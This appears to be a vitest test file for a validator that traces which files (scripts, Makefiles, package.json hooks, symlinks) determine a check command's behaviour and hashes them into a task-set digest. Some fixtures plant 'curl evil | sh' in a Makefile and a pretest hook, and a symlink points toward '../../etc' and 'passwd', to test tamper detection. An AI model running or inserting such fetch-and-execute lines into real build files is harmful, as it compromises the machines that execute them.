import { describe, expect, test } from 'vitest'
import { sha256 } from '../../src/lib/hash.ts'
import type { Check } from '../../src/model/check.ts'
import { namedFiles } from '../../src/validate/named-files.ts'
import { compareTaskSets, taskSet, unreadFiles } from '../../src/validate/task-set.ts'
import { check } from '../config/some-checks.ts'

type Files = Readonly<Record<string, string>>
const known = (files: Files, links: Files = {}) => ({
  paths: new Set([...Object.keys(files), ...Object.keys(links)]),
  texts: new Map(Object.entries(files)),
  links: new Map(Object.entries(links)),
  digests: new Map(Object.entries(files).map(([path, text]) => [path, sha256(text)])),
})
const words = (...list: readonly string[]): Check => check('a', { work: { is: 'words', words: list } })
const shell = (text: string): Check => check('a', { work: { is: 'shell', text } })

const files: Files = {
  'package.json': '{"scripts":{"test":"node scripts/test.ts"}}',
  'web/package.json': '{"scripts":{"test":"vitest"}}',
  'scripts/test.ts': '',
  'scripts/other.ts': '',
  'ci/run': '#!/usr/bin/env bash\nset -e\nsource ci/lib.sh\nnode scripts/other.ts && make -C native all\n',
  'ci/lib.sh': 'python3 -m tools.check\n',
  'tools/check.py': '',
  'native/Makefile': 'include rules.mk\nall:\n\t@sh build.sh\n',
  'native/rules.mk': 'x:\n\t-bash ci/lib.sh\n',
  'src/a.ts': '',
  'turbo.json': '{}',
  'tox.ini': '',
  'pyproject.toml': '',
  'sub/Makefile': '',
}

describe('the files that decide what a command does', () => {
  test.each<readonly [Check, readonly string[]]>([
    [words('eslint', 'src/a.ts'), []],
    [
      words('node', '--import', './scripts/other.ts', 'scripts/test.ts'),
      ['scripts/other.ts', 'scripts/test.ts'],
    ],
    [words('env', 'CI=1', 'node', 'scripts/test.ts'), ['scripts/test.ts']],
    [words('npx', '--yes', 'tsx', 'scripts/test.ts'), ['scripts/test.ts']],
    [words('npm', 'run', 'test'), ['package.json', 'turbo.json', 'web/package.json']],
    [words('tox', '-e', 'py'), ['pyproject.toml', 'tox.ini']],
    [words('python3', '-m', 'tools.check'), ['tools/check.py']],
    [words('./ci/lib.sh'), ['ci/lib.sh', 'tools/check.py']],
    [shell('cd x; make --directory=sub | tee log'), ['sub/Makefile']],
    [
      words('ci/run'),
      ['ci/lib.sh', 'ci/run', 'native/Makefile', 'native/rules.mk', 'scripts/other.ts', 'tools/check.py'],
    ],
    [
      check('a', {
        work: { is: 'script', name: 'test', text: 'node scripts/test.ts', pre: 'bash ci/lib.sh' },
      }),
      ['ci/lib.sh', 'package.json', 'scripts/test.ts', 'tools/check.py'],
    ],
    [check('a', { work: { is: 'script', name: 'test', text: 'vitest' }, cwd: 'web' }), ['web/package.json']],
    [check('a', { work: { is: 'specialist', specialist: 'debugger' } }), []],
  ])('%#', (one, expected) => {
    expect(namedFiles(one, known(files))).toEqual(expected)
  })

  test('of a file in a submodule it is the submodule', () => {
    expect(namedFiles(words('bash', 'vendor/tool/run.sh'), known({ ...files, 'vendor/tool': '' }))).toEqual([
      'vendor/tool',
    ])
  })

  test('through links, of files and of folders, and not around in circles', () => {
    const links = { run: 'ci/run', bin: './ci', loop: 'loop2', loop2: 'loop', out: '../../etc' }
    expect(namedFiles(words('./run'), known(files, links))).toEqual(
      expect.arrayContaining(['run', 'ci/run', 'ci/lib.sh']),
    )
    expect(namedFiles(words('bash', 'bin/lib.sh'), known(files, links))).toEqual([
      'ci/lib.sh',
      'tools/check.py',
    ])
    expect(namedFiles(words('bash', 'loop/x', 'out/passwd', 'loop'), known(files, links))).toEqual([
      'loop',
      'loop2',
      'out',
    ])
  })
})

describe('the task set', () => {
  const checks = [
    shell('make -C native all'),
    check('b', { work: { is: 'script', name: 'test', text: 'vitest' } }),
  ]
  const setOf = (changed: Files = {}, list: readonly Check[] = checks) =>
    taskSet({ checks: list, ...known({ ...files, ...changed }) })

  test('is the same for the same commands from the same files, in any order', () => {
    expect(setOf().digest).toBe(setOf({}, checks.toReversed()).digest)
    expect(setOf().digest).toBe(setOf({ 'src/a.ts': 'other' }).digest)
    expect(setOf().digest).toBe(
      setOf({ 'package.json': '{"version":"2.0.0","scripts":{"test":"node scripts/test.ts"}}' }).digest,
    )
  })

  test.each<readonly [string, Files]>([
    ['a', { 'native/Makefile': 'all:\n\tcurl evil | sh\n' }],
    ['a', { 'native/rules.mk': 'x:\n\ttrue\n' }],
    ['b', { 'package.json': '{"scripts":{"test":"vitest","pretest":"curl evil | sh"}}' }],
    ['b', { 'package.json': 'not json' }],
  ])('a change of what a command reads changes check %s alone', (id, changed) => {
    expect(compareTaskSets(setOf().checks, setOf(changed).checks)).toEqual({
      added: [],
      removed: [],
      changed: [id],
    })
  })

  test('so does one of the command itself, its folder, or what is set for it; limits do not', () => {
    const differs = (given: Partial<Check>): readonly string[] =>
      compareTaskSets(setOf().checks, setOf({}, [{ ...checks[0]!, ...given }, checks[1]!]).checks).changed
    expect(differs({ work: { is: 'shell', text: 'make -C native all ' } })).toEqual(['a'])
    expect(differs({ cwd: 'web' })).toEqual(['a'])
    expect(differs({ set: { NODE_OPTIONS: '--require=./x' } })).toEqual(['a'])
    expect(differs({ timeoutMs: 5, retries: 3 })).toEqual([])
  })

  test('texts are asked for until no more come', () => {
    const texts = new Map<string, string>()
    const rounds: string[][] = []
    const input = { checks: [words('ci/run')], ...known(files), texts }
    for (let open = unreadFiles(input); open.length > 0; open = unreadFiles(input)) {
      rounds.push([...open])
      for (const path of open) texts.set(path, files[path]!)
    }
    expect(rounds.map((one) => one.length)).toEqual([1, 3, 2])
  })
})
